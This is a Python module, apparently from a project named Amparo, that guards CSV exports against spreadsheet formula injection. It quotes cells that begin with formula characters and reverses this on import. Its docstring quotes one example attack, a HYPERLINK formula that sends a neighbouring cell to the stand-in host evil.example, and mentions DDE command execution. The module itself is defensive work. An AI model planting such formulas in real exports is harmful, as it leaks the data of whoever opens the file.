"""CSV cells that a spreadsheet would run as formulas, made inert; undone on import.

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or
``@`` as a formula, and skip a leading tab or carriage return before looking. A title such as
``=HYPERLINK("https://evil.example/?"&B2, "open")`` typed by anyone who can write a record
would then send a neighbouring cell to another site, or run a command through DDE, on the
computer of whoever opens the export. So every CSV Amparo writes passes each cell through
:func:`safe_cell`, which prefixes such a cell with ``'``: spreadsheets show the text as text.

Two refinements, both lossless:

- A cell that is exactly a decimal number (``-5``, ``+3.25``, ``-1e3``: ASCII digits, one
  optional sign, point and exponent, nothing else) is left as it is. A spreadsheet evaluates
  such a cell to the number itself: it holds no function, reference or operator after the
  sign, so there is nothing to run, and quoting it would turn every negative number
  (coordinates, differences) into text. Anything more (``-2+3``, ``-1 ``, ``+504 0000``) is
  quoted.
- A cell whose text starts with ``'`` followed (after more quotes) by one of those
  characters is quoted too, so that :func:`unescape_cell` can tell Amparo's quote from the
  author's: on import it drops one leading quote exactly when what follows is quotes and then
  a formula character. ``unescape_cell(safe_cell(text)) == text`` for every string; a cell
  that merely starts with a quote (``'Tis``) is imported unchanged.
"""

from __future__ import annotations

import re
from typing import Any

__all__ = ["FORMULA_START", "safe_cell", "unescape_cell"]

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)


def _needs_quote(text: str) -> bool:
    core = text.lstrip("'")
    if not core.startswith(FORMULA_START):
        return False
    return core != text or _NUMBER.fullmatch(text) is None


def safe_cell(value: Any) -> str:
    """The text of a CSV cell: ``None`` empty, lists joined with ';', formulas quoted."""
    if value is None:
        return ""
    if isinstance(value, list | tuple):
        value = ";".join(str(v) for v in value)
    text = str(value)
    return "'" + text if _needs_quote(text) else text


def unescape_cell(text: str) -> str:
    """The value :func:`safe_cell` was given (as text), from a cell it wrote."""
    if text.startswith("'") and text[1:].lstrip("'").startswith(FORMULA_START):
        return text[1:]
    return text
